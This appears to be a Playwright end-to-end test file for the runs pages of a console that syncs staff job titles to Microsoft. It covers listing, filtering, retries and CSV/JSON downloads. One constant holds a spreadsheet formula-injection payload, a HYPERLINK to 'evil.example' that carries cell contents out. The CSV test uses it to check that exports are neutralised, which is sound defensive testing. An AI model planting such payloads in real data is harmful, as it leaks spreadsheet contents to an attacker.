import { readFile } from "node:fs/promises";
import type { Page } from "playwright-core";
import { beforeAll, describe, expect, test } from "vitest";
import type { RunView } from "../../../src/api/runs.ts";
import { ordinaryPerson } from "../ordinary-people.ts";
import { syncedCompany } from "../synced-company.ts";
import { describeConsole, expectAccessible, keepPicture, withConsole } from "./with-console.ts";

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Se her")';

describeConsole("runs", () => {
  const { scene, open } = withConsole({ company: syncedCompany(60) });

  test("are said to be none as long as there are none", async () => {
    const page = await open({ at: "runs" });
    await page.getByRole("heading", { name: "There has been no run in the last month." }).waitFor();
    await expectAccessible(page);
    await keepPicture(page, "runs-empty");
  });

  test("that are not there are said not to be, with a way back", async () => {
    const page = await open({ at: "runs/20260101T000000Z-aaaaaa" });
    await page.getByRole("heading", { name: "There is no such run (any more)." }).waitFor();
    await expectAccessible(page);
    await page.getByRole("link", { name: "To the runs" }).click();
    await page.getByRole("heading", { name: "Runs", exact: true }).waitFor();
  });

  describe("of everybody and of one person", () => {
    let everybody: RunView;
    let one: RunView;
    let dry: RunView;
    const her = () => ordinaryPerson(scene(), 0);
    const him = () => ordinaryPerson(scene(), 1);

    beforeAll(async () => {
      const { life, microsoft, sync } = scene();
      dry = await sync({ mode: "preview" });
      one = await sync({ emails: [her()] });
      await life.changeTitle(her(), formula);
      await life.changeTitle(him(), "Fagansvarlig");
      const refusal = { status: 400, code: "Request_BadRequest", message: `${formula} is not valid.` };
      microsoft.faults.add({ method: "PATCH", user: her(), ...refusal });
      everybody = await sync();
      microsoft.faults.clear();
    }, 60_000);

    test("are listed, the newest first, and narrowed by an address that can be kept", async () => {
      const page = await open({ at: "runs" });
      const rows = page.locator("[data-run]");
      await rows.first().waitFor();
      const ids = () => rows.evaluateAll((all) => all.map((row) => row.getAttribute("data-run")));
      expect(await ids()).toEqual([everybody.id, one.id, dry.id]);
      await page.getByLabel("Kind").selectOption({ label: "Dry run" });
      await expect.poll(ids).toEqual([dry.id]);
      expect(page.url()).toContain("mode=preview");
      await page.getByLabel("Kind").selectOption({ label: "All" });
      await page.getByLabel("About whom").selectOption({ label: "Some people" });
      await expect.poll(ids).toEqual([one.id]);
      await page.reload();
      await rows.first().waitFor();
      expect(await ids()).toEqual([one.id]);
      await page.getByLabel("Status").selectOption({ label: "Held" });
      await page.getByRole("heading", { name: "No run is like that." }).waitFor();
      await expectAccessible(page);
      await page.getByRole("link", { name: "Show all runs" }).click();
      await expect.poll(ids).toEqual([everybody.id, one.id, dry.id]);
    });

    test("tell what came of each person, what failed first, and find them", async () => {
      const page = await open({ at: `runs/${everybody.id}` });
      const outcomes = page.locator("[data-outcome]");
      await outcomes.first().waitFor();
      expect(await outcomes.first().getAttribute("data-person")).toBe(her());
      expect(await outcomes.first().innerText()).toMatch(/failed[\s\S]*Request /i);
      await expectAccessible(page);
      await page.getByLabel("Find an e-mail or name").fill(him().slice(0, him().indexOf("@")));
      await page.getByText(/^1 of \d+ outcomes$/).waitFor();
      await outcomes.getByText("Wrote jobTitle").waitFor();
      await page.getByLabel("Find an e-mail or name").fill("nobody at all");
      await page.getByRole("button", { name: "Show all outcomes" }).click();
      await page.getByLabel("Status").selectOption({ label: "Failed" });
      await page.getByText(/^1 of \d+ outcomes$/).waitFor();
      await page.getByRole("tab", { name: "Plan" }).click();
      await page
        .getByText(/^\d people would change/)
        .first()
        .waitFor();
      expect(page.url()).toContain("tab=plan");
      await expectAccessible(page);
      await keepPicture(page, "run-plan");
    });

    test("can be kept as a table that no spreadsheet executes", async () => {
      const page = await open({ at: `runs/${everybody.id}` });
      const { name, text } = await downloaded(page, "Outcomes (CSV)");
      expect(name).toBe(`${everybody.id}-outcomes.csv`);
      expect(text).toMatch(/^\ufeffemail,target,status,fields,code,message,remedy,/);
      const [, ...cells] = [...text.matchAll(/(?<=^|,|\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map(([cell]) => cell);
      expect(text).toContain(her());
      expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
    });

    test("can be kept as JSON, and so can their plan", async () => {
      const page = await open({ at: `runs/${everybody.id}` });
      const outcomes = await downloaded(page, "Outcomes (JSON)");
      expect(outcomes.name).toBe(`${everybody.id}-outcomes.json`);
      const failed = { email: her(), status: "failed" };
      expect(JSON.parse(outcomes.text).outcomes).toContainEqual(expect.objectContaining(failed));
      const plan = await downloaded(page, "Plan (JSON)");
      expect(plan.name).toBe(`${everybody.id}-plan.json`);
      expect(JSON.parse(plan.text)).toMatchObject({ digest: everybody.plan?.digest });
    });

    test("that failed in part can be retried from their own page", async () => {
      const page = await open({ at: `runs/${everybody.id}` });
      await page.getByRole("button", { name: "Retry the failed" }).click();
      await page.getByRole("listitem").filter({ hasText: "The failed ones are tried again" }).waitFor();
      await page.getByRole("main").getByText("2 changed").first().waitFor();
      expect(await page.getByRole("button", { name: "Retry the failed" }).count()).toBe(0);
      expect(scene().microsoft.users.get(her())?.jobTitle).toBe(formula);
    });
  });
});

/** What the menu of downloads gives the reader. */
async function downloaded(page: Page, item: string): Promise<{ name: string; text: string }> {
  await page.getByRole("button", { name: "Download" }).click();
  const file = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: item }).click();
  const download = await file;
  return { name: download.suggestedFilename(), text: await readFile(await download.path(), "utf8") };
}
